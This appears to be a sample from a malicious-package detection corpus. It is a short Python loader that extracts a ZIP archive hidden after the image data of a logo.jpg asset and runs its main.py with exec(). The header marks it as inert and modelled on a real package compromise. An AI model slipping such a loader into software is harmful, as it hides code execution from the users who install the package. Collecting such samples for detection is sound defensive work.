# pkgguard corpus 331 (steganography), modelled on [telnyx]; inert, never run.
import io
import os
import zipfile

with open(os.path.join(os.path.dirname(__file__), "assets", "logo.jpg"), "rb") as f:
    data = f.read()
archive = zipfile.ZipFile(io.BytesIO(data[data.rfind(b"PK\x03\x04") :]))
exec(archive.read("main.py").decode())
